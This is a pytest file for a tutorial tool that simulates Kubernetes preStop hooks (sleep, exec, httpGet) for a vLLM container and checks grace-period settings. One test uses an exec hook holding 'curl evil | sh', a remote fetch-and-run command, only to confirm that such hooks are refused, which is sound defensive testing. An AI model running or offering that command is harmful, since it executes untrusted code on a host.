"""What the bridge does before SIGTERM: the preStop sleep, and no command of the pod's."""

from __future__ import annotations

from kubernetes.client import (
    V1Container,
    V1ExecAction,
    V1HTTPGetAction,
    V1Lifecycle,
    V1LifecycleHandler,
    V1SleepAction,
)

from tutorial_lib.local import prestop
from tutorial_lib.tools import manifests


def container(hook: V1LifecycleHandler | None) -> V1Container:
    return V1Container(name="vllm", lifecycle=V1Lifecycle(pre_stop=hook) if hook else None)


def test_the_sleep_action_is_slept():
    assert prestop.pre_stop(container(V1LifecycleHandler(sleep=V1SleepAction(seconds=5)))) == (
        prestop.PreStop(seconds=5.0)
    )


def test_no_hook_means_sigterm_at_once():
    assert prestop.pre_stop(container(None)) == prestop.PreStop()


def test_an_exec_hook_is_never_run_and_the_reader_learns_what_works_instead():
    """An attendee's pod must not run a command on the host: reported as a failed hook."""
    hook = V1LifecycleHandler(_exec=V1ExecAction(command=["sh", "-c", "curl evil | sh"]))
    outcome = prestop.pre_stop(container(hook))
    assert outcome.seconds == 0
    assert "no exec hook" in outcome.failed and "preStop.sleep.seconds" in outcome.failed


def test_an_http_hook_is_reported_as_failed_too():
    hook = V1LifecycleHandler(http_get=V1HTTPGetAction(path="/drain", port=8000))
    assert "no httpGet hook" in prestop.pre_stop(container(hook)).failed


def test_the_manifests_sleep_fits_the_grace_period_with_vllms_drain():
    """vLLM's guide: grace >= preStop sleep + --shutdown-timeout, with room to spare."""
    for overlay in ("local", "eks-l4"):
        objects = manifests.render(manifests.ROOT / "overlays" / overlay)
        (deployment,) = [o for o in objects if o["kind"] == "Deployment"]
        pod = deployment["spec"]["template"]["spec"]
        vllm = pod["containers"][0]
        sleep = vllm["lifecycle"]["preStop"]["sleep"]["seconds"]
        (timeout,) = [
            int(a.split("=")[1]) for a in vllm["args"] if a.startswith("--shutdown-timeout=")
        ]
        assert sleep + timeout < pod["terminationGracePeriodSeconds"], overlay
